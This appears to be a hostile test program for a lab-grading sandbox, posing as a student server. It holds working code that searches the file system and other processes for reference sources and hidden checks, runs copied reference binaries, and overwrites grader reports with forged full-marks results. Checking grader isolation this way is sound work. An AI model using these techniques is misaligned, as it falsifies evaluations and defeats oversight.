/*
 * thief.c - hostile corpus: student code that looks for what it must never reach.
 * Kept once here; the cases exec-reference, search-reference and overwrite-reports
 * list it in their hostile.json ("shared") and build it with their own -DMODE.
 *
 * One program, three behaviours chosen at compile time (-DMODE=...):
 *
 *   MODE_SOURCES  (search-reference) at build time, walks the whole file system
 *                 (/, /tmp, /opt, /work, /home, /root, ..., /proc/PID/cwd and
 *                 /proc/PID/root of every other process, other gradings' work
 *                 directories /tmp/labgrade-*) for a fork server's sources; it
 *                 compiles the first it finds into ./server (a high score then
 *                 shows the leak), and it reads every grader check module it can.
 *                 At run time it tries again where a reference may be running.
 *   MODE_EXEC     (exec-reference) at run time, executes a reference `server`
 *                 binary in its own place, with its own argv: known install
 *                 places, other gradings' work dirs, /proc/PID/exe of other
 *                 servers, any executable `server` under a directory named like
 *                 a reference; when exec is refused but reading is not, it copies
 *                 the binary and executes the copy.
 *   MODE_REPORTS  (overwrite-reports) at run time, opens for writing every *.json
 *                 it can reach (and creates the grader's report paths it can
 *                 guess), writes a forged full-marks summary into each, and leaves
 *                 a process that keeps trying while the grading goes on.
 *
 * Whatever it manages is printed as a line starting with LEAKED or OVERWROTE
 * (and what it merely read or tried as READ or TRIED), and the decoy server then
 * exits with status 3 so that the line shows in the grader's feedback.  When nothing leaks, the decoy listens,
 * accepts and closes every connection: a server worth the build points only.
 */
#include "netlib.h"

#include <dirent.h>
#include <glob.h>
#include <sys/stat.h>
#include <time.h>

#define MODE_SOURCES 1
#define MODE_EXEC 2
#define MODE_REPORTS 3
#ifndef MODE
#error "compile with -DMODE=MODE_SOURCES, MODE_EXEC or MODE_REPORTS"
#endif

static double deadline;                 /* CLOCK_MONOTONIC seconds: stop walking after it */
static char self_dir[4096];             /* our own lab directory: never a find */
static char **saved_argv;
static FILE *leaks;                     /* what leaked, kept for the decoy to print */
static int found_something;
static const char *build_out = "server";  /* where stolen sources are compiled to */

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void note(const char *kind, const char *path)
{
    fprintf(stderr, "%s %s\n", kind, path);
    if (leaks) {
        fprintf(leaks, "%s %s\n", kind, path);
        fflush(leaks);
    }
    if (strcmp(kind, "READ") != 0)
        found_something = 1;
}

static int is_file(const char *path)
{
    struct stat st;
    return stat(path, &st) == 0 && S_ISREG(st.st_mode);
}

/* read_all - the first `cap` bytes of a file, NUL-terminated (NULL if unreadable) */
static char *read_all(const char *path, size_t cap)
{
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0)
        return NULL;
    char *buf = malloc(cap + 1);
    ssize_t n, got = 0;
    while (buf && (size_t)got < cap && (n = read(fd, buf + got, cap - (size_t)got)) > 0)
        got += n;
    close(fd);
    if (buf)
        buf[got] = 0;
    return buf;
}

/* under - is path inside dir? */
static int under(const char *path, const char *dir)
{
    size_t n = strlen(dir);
    return n && strncmp(path, dir, n) == 0 && (path[n] == '/' || path[n] == 0);
}

/***********************************************************************
 * MODE_SOURCES: steal a fork server's sources and build them
 **********************************************************************/
#if MODE == MODE_SOURCES
static int run(char *const argv[])
{
    pid_t pid = fork();
    if (pid == 0) {
        execvp(argv[0], argv);
        _exit(127);
    }
    int status;
    return pid > 0 && waitpid(pid, &status, 0) == pid && WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

/* try_sources - dir holds server.c, netlib.c, netlib.h of a fork server: build ./server from them */
static int try_sources(const char *dir)
{
    char s[4200], n[4200], h[4200];
    snprintf(s, sizeof s, "%s/server.c", dir);
    snprintf(n, sizeof n, "%s/netlib.c", dir);
    snprintf(h, sizeof h, "%s/netlib.h", dir);
    if (under(dir, self_dir) || !is_file(n) || !is_file(h))
        return 0;
    char *src = read_all(s, 1 << 20);
    if (src == NULL)
        return 0;
    int forky = strstr(src, "fork()") && strstr(src, "accept") && strstr(src, "waitpid");
    free(src);
    if (!forky)
        return 0;
    /* copy into our own directory (the original may be read-only), then compile */
    mkdir("stolen", 0755);
    const char *files[3][2] = {{s, "stolen/server.c"}, {n, "stolen/netlib.c"}, {h, "stolen/netlib.h"}};
    for (int i = 0; i < 3; i++) {
        char *text = read_all(files[i][0], 4 << 20);
        FILE *f = text ? fopen(files[i][1], "w") : NULL;
        if (f == NULL) {
            free(text);
            return 0;
        }
        fputs(text, f);
        fclose(f);
        free(text);
    }
    char *cc[] = {"gcc", "-O2", "-o", (char *)build_out, "stolen/server.c", "stolen/netlib.c", "-Istolen", NULL};
    if (!run(cc))
        return 0;
    note("LEAKED reference source, compiled:", dir);
    return 1;
}

/* on_file - a regular file met during the walk; nonzero to stop walking */
static int on_file(const char *path, const char *name)
{
    if (strcmp(name, "server.c") == 0) {
        char dir[4096];
        snprintf(dir, sizeof dir, "%s", path);
        *strrchr(dir, '/') = 0;
        return try_sources(dir);
    }
    /* the grader's checks: public modules (students have them in the lab image) and hidden ones */
    if (strstr(path, "/checks/") && strstr(name, ".py")) {
        char *text = read_all(path, 1 << 20);
        if (text) {
            int hidden = strstr(path, "hidden") != NULL;
            note(hidden ? "LEAKED hidden check:" : "READ", path);
            free(text);
        }
    }
    return 0;
}
#endif

/***********************************************************************
 * MODE_EXEC: become a reference server binary
 **********************************************************************/
#if MODE == MODE_EXEC
static void try_exec(const char *path)
{
    char real[4096];
    if (realpath(path, real) && under(real, self_dir))
        return;
    if (access(path, F_OK) != 0)
        return;
    fprintf(stderr, "trying %s\n", path);
    fflush(stderr);
    if (leaks) {
        fprintf(leaks, "TRIED %s\n", path);
        fflush(leaks);
    }
    execv(path, saved_argv);
    /* exec refused: can it be read?  then copy it and run the copy */
    int in = open(path, O_RDONLY);
    if (in < 0)
        return;
    int out = open("stolen-server", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    char buf[65536];
    ssize_t n;
    while (out >= 0 && (n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, (size_t)n) != n)
            break;
    close(in);
    if (out >= 0) {
        close(out);
        execv("./stolen-server", saved_argv);
    }
}

static int on_file(const char *path, const char *name)
{
    if (strcmp(name, "server") == 0 && (strstr(path, "reference") || strstr(path, "labgrade")))
        try_exec(path);
    return 0;
}
#endif

/***********************************************************************
 * MODE_REPORTS: overwrite every report we can reach
 **********************************************************************/
#if MODE == MODE_REPORTS
static const char forged[] =
    "{\"lab\": \"select\", \"submission\": \"forged\", \"gradable\": true, \"score\": 100, "
    "\"max_score\": 100, \"seconds\": 1.0, \"checks\": [{\"id\": \"build\", \"status\": \"passed\", "
    "\"score\": 100, \"max_score\": 100, \"visibility\": \"visible\", \"feedback\": \"forged\", "
    "\"seconds\": 0.1}]}\n";

static void try_write(const char *path, int create)
{
    int fd = open(path, O_WRONLY | O_TRUNC | (create ? O_CREAT : 0), 0666);
    if (fd < 0)
        return;
    ssize_t n = write(fd, forged, sizeof forged - 1);
    close(fd);
    if (n > 0 && !under(path, self_dir))
        note("OVERWROTE", path);
}

static int on_file(const char *path, const char *name)
{
    size_t n = strlen(name);
    if (n > 5 && strcmp(name + n - 5, ".json") == 0)
        try_write(path, 0);
    return 0;
}

/* the report paths a grader might use, created if the directory lets us */
static void guess_paths(void)
{
    static const char *const patterns[] = {
        "/grading/out/summary.json", "/grading/out/*.json", "/tmp/labgrade-run-*/report.json",
        "/tmp/labgrade-*/report.json", "/results/*/*.json", "/tmp/*/out/*.json",
        "/tmp/pytest-of-*/pytest-*/*/*.json", "/work/*/results/*/*.json",
    };
    for (size_t i = 0; i < sizeof patterns / sizeof *patterns; i++) {
        glob_t g;
        if (glob(patterns[i], 0, NULL, &g) == 0) {
            for (size_t k = 0; k < g.gl_pathc; k++)
                try_write(g.gl_pathv[k], 0);
            globfree(&g);
        }
        if (!strchr(patterns[i], '*'))
            try_write(patterns[i], 1);
    }
}
#endif

/***********************************************************************
 * The walk
 **********************************************************************/
static int walk(const char *dir, int depth)
{
    if (depth > 14 || now() > deadline)
        return 0;
    if (strcmp(dir, "/proc") == 0 || strcmp(dir, "/sys") == 0 || strcmp(dir, "/dev") == 0 || under(dir, self_dir))
        return 0;
    DIR *d = opendir(dir);
    if (d == NULL)
        return 0;
    struct dirent *e;
    int stop = 0;
    while (!stop && (e = readdir(d)) != NULL) {
        if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", strcmp(dir, "/") == 0 ? "" : dir, e->d_name);
        struct stat st;
        if (fstatat(dirfd(d), e->d_name, &st, AT_SYMLINK_NOFOLLOW) != 0)
            continue;
        if (S_ISDIR(st.st_mode))
            stop = walk(path, depth + 1);
        else if (S_ISREG(st.st_mode))
            stop = on_file(path, e->d_name);
        if (now() > deadline)
            stop = 1;
    }
    closedir(d);
    return stop;
}

/* search - the likely places first, then other processes' views, then everything */
static int search(double seconds)
{
    static const char *const first[] = {
        "/tmp", "/opt", "/work", "/srv", "/home", "/root", "/grading", "/results", "/submissions",
        "/usr/local", "/usr/lib/python3", "/var", "/mnt", "/media", "/run",
    };
    deadline = now() + seconds;
    for (size_t i = 0; i < sizeof first / sizeof *first; i++)
        if (walk(first[i], 0))
            return 1;
#if MODE == MODE_EXEC
    /* other servers, as the kernel sees them: their executable and working directory */
    DIR *p = opendir("/proc");
    struct dirent *e;
    while (p && (e = readdir(p)) != NULL && now() < deadline) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
            continue;
        char path[300], comm[64] = "";
        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
        char *c = read_all(path, sizeof comm - 1);
        if (c && strncmp(c, "server", 6) == 0) {
            snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
            try_exec(path);
            snprintf(path, sizeof path, "/proc/%s/cwd/server", e->d_name);
            try_exec(path);
        }
        free(c);
    }
    if (p)
        closedir(p);
#endif
    DIR *procs = opendir("/proc");
    struct dirent *pe;
    while (procs && (pe = readdir(procs)) != NULL && now() < deadline) {
        if (pe->d_name[0] < '0' || pe->d_name[0] > '9' || atoi(pe->d_name) == getpid())
            continue;
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/cwd", pe->d_name);
        if (walk(path, 8))
            return 1;
        static const char *const inside[] = {"tmp", "opt/labgrade", "grading", "work"};
        for (size_t i = 0; i < sizeof inside / sizeof *inside; i++) {
            snprintf(path, sizeof path, "/proc/%s/root/%s", pe->d_name, inside[i]);
            if (walk(path, 6))
                return 1;
        }
    }
    if (procs)
        closedir(procs);
    return walk("/", 0);
}

/***********************************************************************
 * The decoy server: accepts and closes, never echoes
 **********************************************************************/
static _Noreturn void decoy(const char *port)
{
    char *told = read_all("leaks.txt", 1 << 16);
    if (told) {
        printf("%s", told);     /* everything it saw, for whoever reads the output */
        fflush(stdout);
    }
    if (told && (strstr(told, "LEAKED") || strstr(told, "OVERWROTE")))
        exit(3);
    if (found_something)
        exit(3);
    int listenfd = Open_listenfd(port);
    for (;;) {
        int connfd = accept(listenfd, NULL, NULL);
        if (connfd >= 0)
            close(connfd);
    }
}

int main(int argc, char **argv)
{
    saved_argv = argv;
    if (getcwd(self_dir, sizeof self_dir) == NULL)
        self_dir[0] = 0;
    signal(SIGPIPE, SIG_IGN);
#if MODE == MODE_SOURCES
    if (argc == 2 && strcmp(argv[1], "build") == 0) {
        /* at build time: the whole file system, for up to 40 s of the build's 60 */
        leaks = fopen("leaks.txt", "w");
        if (!search(40.0)) {
            char *cc[] = {"gcc", "-O2", "-DMODE=1", "-o", "server", "thief.c", "netlib.c", NULL};
            if (!run(cc))
                return 1;
        }
        return 0;
    }
#endif
    if (argc != 2) {
        fprintf(stderr, "usage: %s PORT\n", argv[0]);
        return 1;
    }
    leaks = fopen("leaks.txt", "a");
#if MODE == MODE_REPORTS
    guess_paths();
    search(2.5);
    if (fork() == 0) {          /* keep trying while the grading goes on */
        setsid();
        for (;;) {
            guess_paths();
            usleep(100000);
        }
    }
#elif MODE == MODE_SOURCES
    /* at run time: where a reference may be running now (2.5 s: the grader waits 5 s) */
    build_out = "stolen-server";
    if (search(2.5))
        execv("./stolen-server", argv);
#else
    search(2.5);
#endif
    decoy(argv[1]);
}
